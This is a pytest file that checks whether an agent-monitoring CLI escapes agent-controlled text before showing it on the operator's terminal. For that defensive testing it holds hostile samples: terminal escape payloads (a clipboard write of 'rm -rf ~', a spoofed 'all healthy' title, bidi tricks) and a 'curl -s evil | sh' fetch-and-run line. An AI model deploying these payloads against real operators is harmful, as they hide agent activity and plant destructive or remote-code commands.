"""What an agent controls reaches the operator's terminal escaped, and a pipe exactly.

The terminal is real: stdout and stderr are the slave ends of two
pseudo-terminals (openpty(3)) for the real commands, and the test reads what
the masters received. A stand-in client (Settings.connect) answers for the
daemon; CliRunner, whose streams are not terminals, is the pipe.
"""

from __future__ import annotations

import json
import os
import sys
import termios
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TextIO, TypeVar

import pytest
from agentd.v1 import agentd_pb2
from click.testing import CliRunner, Result
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from google.protobuf.message import Message
from google.protobuf.timestamp_pb2 import Timestamp

from agentctl import render
from agentctl.cli import cli
from agentctl.context import Settings
from agentctl.errors import NotFound

M = TypeVar("M", bound=Message)
NOW = 1_750_000_000.0
_END = b"\x00--end of test output--\x00"

# Every character a terminal must not be handed raw from an agent.
CONTROLS = frozenset(
    [*map(chr, range(0x00, 0x20)), "\x7f", *map(chr, range(0x80, 0xA0)),
     *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A)),
     *map(chr, range(0x200B, 0x2010)), "\ufeff", "\u2028", "\u2029"]
)
ATTACK = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;all healthy\x07\x1b[2J\r\x9b2J\u202e"


def _controls(out: bytes) -> set[str]:
    """The control characters in what a terminal received, but newlines."""
    return set(out.decode("utf-8")) & CONTROLS - {"\n"}


def _ts(t: float) -> Timestamp:
    ts = Timestamp()
    ts.FromSeconds(int(t))
    return ts


def _rogue() -> agentd_pb2.Agent:
    return agentd_pb2.Agent(
        name="rogue", id="rogue-1", state=agentd_pb2.AGENT_STATE_RUNNING, pids=[10],
        started_at=_ts(NOW - 60), user="nobody", uid=65534,
        argv=["sh", "-c", "curl -s evil | sh\rsleep 60"],
        sandbox=agentd_pb2.Sandbox(policy="default", checks=[
            agentd_pb2.RestrictionCheck(name="seccomp", ok=True, detail="mode 2\x9b2J")]),
        signals=agentd_pb2.AgentSignals(
            sampled_at=_ts(NOW - 1), recent_commands=["curl -s evil | sh\rls -l /tmp/build"],
            remote_addresses=["203.0.113.9:443\x1b]0;all agents healthy\x07"],
            files_written=["/tmp/\u202etxt.exe"],
        ),
    )


def _hostile(msg: M) -> M:
    """*msg* with ATTACK in every string field, at any depth, set or not."""
    for field in msg.DESCRIPTOR.fields:
        value = getattr(msg, field.name)
        if field.type == field.TYPE_STRING:
            if field.is_repeated:
                value.append(ATTACK)
            else:
                setattr(msg, field.name, value + ATTACK)
        elif field.message_type is not None and field.message_type.name != "Timestamp":
            _hostile(value.add() if field.is_repeated else value)
    return msg


class _Daemon:
    """Answers like agentd, from what the test gave it."""

    def __init__(self, *, agents: list[agentd_pb2.Agent] | None = None,
                 events: list[agentd_pb2.Event] | None = None,
                 chunks: list[agentd_pb2.LogChunk] | None = None,
                 info: agentd_pb2.InfoResponse | None = None,
                 kill: agentd_pb2.KillResult | None = None,
                 fail: Exception | None = None) -> None:
        self.agents, self.event_list = agents or [], events or []
        self.chunks, self.info_resp, self.kill_result = chunks or [], info, kill
        self.fail = fail

    def info(self) -> agentd_pb2.InfoResponse:
        assert self.info_resp is not None
        return self.info_resp

    def list_agents(self) -> list[agentd_pb2.Agent]:
        return self.agents

    def get_agent(self, name: str) -> agentd_pb2.Agent:
        if self.fail is not None:
            raise self.fail
        return self.agents[0]

    def events(self, **kw: Any) -> Iterator[agentd_pb2.Event]:
        yield from self.event_list

    def logs(self, name: str, **kw: Any) -> Iterator[agentd_pb2.LogChunk]:
        yield from self.chunks

    def kill(self, env: agentd_pb2.Envelope) -> agentd_pb2.KillResult:
        assert self.kill_result is not None
        return self.kill_result

    def close(self) -> None:
        pass


def _settings(daemon: _Daemon) -> Settings:
    def connect(path: Path, **kw: Any) -> _Daemon:
        return daemon

    return Settings(clock=lambda: NOW, connect=connect)  # type: ignore[arg-type]


# ---------------------------------------------------------------- terminals
class _Pty:
    """A pseudo-terminal whose slave end stands in for sys.stdout or sys.stderr."""

    def __init__(self) -> None:
        self.master, slave = os.openpty()
        attrs = termios.tcgetattr(slave)
        attrs[1] &= ~termios.OPOST  # no \n -> \r\n: the test sees the bytes as written
        termios.tcsetattr(slave, termios.TCSANOW, attrs)
        self.stream: TextIO = open(slave, "w", encoding="utf-8")  # noqa: SIM115
        self._got = bytearray()
        # Drained while the command runs: a full pty buffer would block it.
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        while not self._got.endswith(_END):
            self._got += os.read(self.master, 65536)

    def received(self) -> bytes:
        """Everything written to the terminal so far; call once, when the command is done."""
        self.stream.flush()
        os.write(self.stream.fileno(), _END)  # in order after what the command wrote
        self._reader.join(10)
        assert not self._reader.is_alive()
        return bytes(self._got).removesuffix(_END)

    def close(self) -> None:
        self.stream.close()
        os.close(self.master)


@dataclass
class Shown:
    exit_code: int
    stdout: bytes
    stderr: bytes


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """Run agentctl with stdout and stderr on terminals: ``terminal(args, daemon)``."""
    for var in ("AGENTD_SOCKET", "AGENTCTL_KEY", "AGENTCTL_DEBUG"):
        monkeypatch.delenv(var, raising=False)
    ptys: list[_Pty] = []

    def run(args: list[str], daemon: _Daemon) -> Shown:
        out, err = _Pty(), _Pty()
        ptys.extend([out, err])
        saved = sys.stdout, sys.stderr
        sys.stdout, sys.stderr = out.stream, err.stream
        try:
            cli.main(args, prog_name="agentctl", obj=_settings(daemon))
        except SystemExit as done:
            code = done.code if isinstance(done.code, int) else 1
        finally:
            sys.stdout, sys.stderr = saved
        return Shown(code, out.received(), err.received())

    yield run
    for pty in ptys:
        pty.close()


def _pipe(args: list[str], daemon: _Daemon) -> Result:
    return CliRunner().invoke(cli, args, obj=_settings(daemon),
                              env={"AGENTD_SOCKET": None, "AGENTCTL_KEY": None})


def _strings(doc: Any) -> Iterator[str]:
    """Every string in a parsed JSON document."""
    if isinstance(doc, str):
        yield doc
    elif isinstance(doc, dict | list):
        for value in doc.values() if isinstance(doc, dict) else doc:
            yield from _strings(value)


def _lines(out: bytes) -> list[str]:
    return out.decode("utf-8").splitlines()


# ------------------------------------------------------------------- status
def test_status_on_a_terminal_escapes_what_the_agent_wrote(terminal: Any) -> None:
    shown = terminal(["status", "rogue"], _Daemon(agents=[_rogue()]))

    assert shown.exit_code == 0, shown.stderr
    lines = _lines(shown.stdout)
    # A carriage return cannot overwrite the command line with a harmless one.
    assert "command:     sh -c 'curl -s evil | sh\\rsleep 60'" in lines
    assert "  recent commands:   curl -s evil | sh\\rls -l /tmp/build" in lines
    assert "  remote addresses:  203.0.113.9:443\\x1b]0;all agents healthy\\x07" in lines
    assert "  files written:     /tmp/\\u202etxt.exe" in lines
    assert "ok      seccomp  mode 2\\x9b2J" in "\n".join(lines)
    assert _controls(shown.stdout) == set()


def test_status_into_a_pipe_is_the_exact_text() -> None:
    agent = _rogue()

    result = _pipe(["status", "rogue"], _Daemon(agents=[agent]))

    assert result.exit_code == 0, result.stderr
    assert result.stdout == render.agent_text(agent, Settings(clock=lambda: NOW).now()) + "\n"
    assert "sh -c 'curl -s evil | sh\rsleep 60'" in result.stdout


def test_status_raw_on_a_terminal_is_the_exact_text(terminal: Any) -> None:
    agent = _rogue()

    shown = terminal(["status", "rogue", "--raw"], _Daemon(agents=[agent]))

    assert shown.stdout.decode() == render.agent_text(
        agent, Settings(clock=lambda: NOW).now()) + "\n"


def test_the_global_raw_option_works_too(terminal: Any) -> None:
    shown = terminal(["--raw", "status", "rogue"], _Daemon(agents=[_rogue()]))

    assert "\r" in shown.stdout.decode()


# -------------------------------------------- every command, every string
@pytest.mark.parametrize("args", [["status", "x"], ["ps"], ["top", "--once"], ["events"],
                                  ["info"]])
def test_no_string_of_any_answer_reaches_a_terminal_raw(terminal: Any, args: list[str]) -> None:
    agent = _hostile(_rogue())
    event = _hostile(agentd_pb2.Event(at=_ts(NOW), fields_json=json.dumps({"x": ATTACK})))
    daemon = _Daemon(agents=[agent], events=[event], info=_hostile(agentd_pb2.InfoResponse()))

    shown = terminal(args, daemon)

    assert shown.exit_code == 0, shown.stderr
    assert "\\x1b]52;c;cm0gLXJmIH4=\\x07" in shown.stdout.decode()
    assert _controls(shown.stdout) == set()


@pytest.mark.parametrize("args", [["status", "x"], ["ps"], ["top"], ["events"], ["info"]])
def test_json_on_a_terminal_is_ascii_and_the_exact_text(terminal: Any, args: list[str]) -> None:
    agent = _hostile(_rogue())
    event = _hostile(agentd_pb2.Event(at=_ts(NOW), fields_json=json.dumps({"x": ATTACK})))
    daemon = _Daemon(agents=[agent], events=[event], info=_hostile(agentd_pb2.InfoResponse()))

    shown = terminal([*args, "--json"], daemon)

    assert shown.exit_code == 0, shown.stderr
    assert shown.stdout.isascii()  # C1 and bidi as \uXXXX, not raw
    assert any(text.endswith(ATTACK) for text in _strings(json.loads(shown.stdout)))


# ---------------------------------------------------------------------- top
def test_top_on_a_terminal_redraws_with_its_own_codes_only(terminal: Any) -> None:
    agent = _rogue()
    agent.name = "ro\x1b]0;t\x07gue"

    shown = terminal(["top", "-n", "2", "--interval", "100ms"], _Daemon(agents=[agent]))

    assert shown.exit_code == 0, shown.stderr
    assert shown.stdout.startswith(b"\x1b[H\x1b[2Jagentd top: 1 agent(s)")
    assert shown.stdout.count(b"\x1b") == 4  # two tables, each home and clear
    assert b"ro\\x1b]0;t\\x07gue  running" in shown.stdout


# ------------------------------------------------------------------- events
def test_events_on_a_terminal_escape_a_tripwire_excerpt(terminal: Any) -> None:
    ev = agentd_pb2.Event(at=_ts(NOW), kind="rule", type="tripwire", agent="rogue",
                          message="tripwire exfil matched rogue stdout: "
                                  "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07")

    shown = terminal(["events"], _Daemon(events=[ev]))

    assert shown.stdout == (b"2025-06-15 15:06:40Z  rule      tripwire exfil matched rogue "
                            b"stdout: \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\n")


def test_events_into_a_pipe_are_the_exact_text() -> None:
    ev = agentd_pb2.Event(at=_ts(NOW), kind="rule", message="excerpt \x1b]52;c;aGk=\x07")

    result = _pipe(["events"], _Daemon(events=[ev]))

    assert result.stdout == "2025-06-15 15:06:40Z  rule      excerpt \x1b]52;c;aGk=\x07\n"


# --------------------------------------------------------------------- logs
def _chunk(stream: str, data: bytes) -> agentd_pb2.LogChunk:
    return agentd_pb2.LogChunk(stream=stream, data=data)


# Interleaved, each stream with a character and an escape sequence split
# across its chunks: the two streams must not share a decoder.
CHUNKS = [
    _chunk("stdout", b"build ok\n\x1b]0;pw"),
    _chunk("stderr", b"warn \x1b]52;c;aGk=\x07\xc2"),
    _chunk("stdout", b"ned\x07caf\xc3"),
    _chunk("stderr", b"\x9b2J\n"),
    _chunk("stdout", b"\xa9\t\xff\x1b[2J\r\nend\xe4\xb8"),
]
STDOUT = b"".join(c.data for c in CHUNKS if c.stream == "stdout")
STDERR = b"".join(c.data for c in CHUNKS if c.stream == "stderr")
STDOUT_SHOWN = "build ok\n\\x1b]0;pwned\\x07café\t\\xff\\x1b[2J\\r\nend\\xe4\\xb8".encode()
STDERR_SHOWN = b"warn \\x1b]52;c;aGk=\\x07\\x9b2J\n"


def test_logs_on_a_terminal_are_escaped_stream_by_stream(terminal: Any) -> None:
    shown = terminal(["logs", "rogue"], _Daemon(chunks=CHUNKS))

    assert shown.exit_code == 0, shown.stderr
    assert shown.stdout == STDOUT_SHOWN
    assert shown.stderr == STDERR_SHOWN


def test_logs_into_a_pipe_are_the_exact_bytes() -> None:
    result = _pipe(["logs", "rogue"], _Daemon(chunks=CHUNKS))

    assert result.exit_code == 0, result.stderr
    assert result.stdout_bytes == STDOUT
    assert result.stderr_bytes == STDERR


def test_logs_raw_on_a_terminal_are_the_exact_bytes(terminal: Any) -> None:
    shown = terminal(["logs", "rogue", "--raw"], _Daemon(chunks=CHUNKS))

    assert shown.stdout == STDOUT
    assert shown.stderr == STDERR


def test_logs_of_one_stream_on_a_terminal(terminal: Any) -> None:
    shown = terminal(["logs", "rogue", "--stderr"], _Daemon(chunks=CHUNKS))

    assert shown.stdout == STDERR_SHOWN
    assert shown.stderr == b""


def test_logs_json_on_a_terminal_is_ascii(terminal: Any) -> None:
    chunk = _chunk("stdout", "\u202eexe.txt \x9b2J \x1b]0;t\x07".encode())

    shown = terminal(["logs", "rogue", "--json"], _Daemon(chunks=[chunk]))

    assert shown.stdout.isascii()
    assert json.loads(shown.stdout) == {"stream": "stdout", "text": chunk.data.decode()}


# ------------------------------------------------------------ errors, kills
def test_an_error_on_a_terminal_is_escaped(terminal: Any) -> None:
    daemon = _Daemon(fail=NotFound("NOT_FOUND: no agent named 'x\x1b]0;t\x07'"))

    shown = terminal(["status", "x"], daemon)

    assert shown.exit_code == 5
    assert shown.stderr == b"agentctl: error: NOT_FOUND: no agent named 'x\\x1b]0;t\\x07'\n"


def test_an_error_into_a_pipe_is_the_exact_text() -> None:
    daemon = _Daemon(fail=NotFound("NOT_FOUND: no agent named 'x\x1b]0;t\x07'"))

    result = _pipe(["status", "x"], daemon)

    assert result.stderr == "agentctl: error: NOT_FOUND: no agent named 'x\x1b]0;t\x07'\n"


@pytest.fixture
def key_file(tmp_path: Path) -> Path:
    path = tmp_path / "id_ed25519"
    path.write_bytes(Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH,
        serialization.NoEncryption()))
    path.chmod(0o600)
    return path


def test_a_stuck_process_name_on_a_terminal_is_escaped(terminal: Any, key_file: Path) -> None:
    # comm is the agent's to set (prctl(2) PR_SET_NAME).
    result = agentd_pb2.KillResult(name="rogue", processes_killed=1, stuck=[
        agentd_pb2.StuckProcess(pid=7, state="D", wchan="-", comm="\x1b]0;t\x07\x1b[1A")])

    shown = terminal(["kill", "rogue", "--audience", "h", "--key", str(key_file)],
                     _Daemon(kill=result))

    assert shown.exit_code == 8
    assert "  7    D      -      \\x1b]0;t\\x07\\x1b[1A" in _lines(shown.stdout)
    assert _controls(shown.stdout) == set()


def test_cosign_shows_an_escaped_name_on_a_terminal(
    terminal: Any, key_file: Path, tmp_path: Path
) -> None:
    signed = _pipe(["kill", "x\x1b[2K\rrogue", "--sign-only", "--audience", "h",
                    "--key", str(key_file)], _Daemon())
    assert signed.exit_code == 0, signed.stderr
    envelope = tmp_path / "kill.env"
    envelope.write_text(signed.stdout)

    shown = terminal(["cosign", str(envelope), "--key", str(key_file)], _Daemon())

    assert shown.stderr.startswith(b"co-signing: kill 'x\\x1b[2K\\rrogue' for host 'h', ")
    assert _controls(shown.stderr) == set()
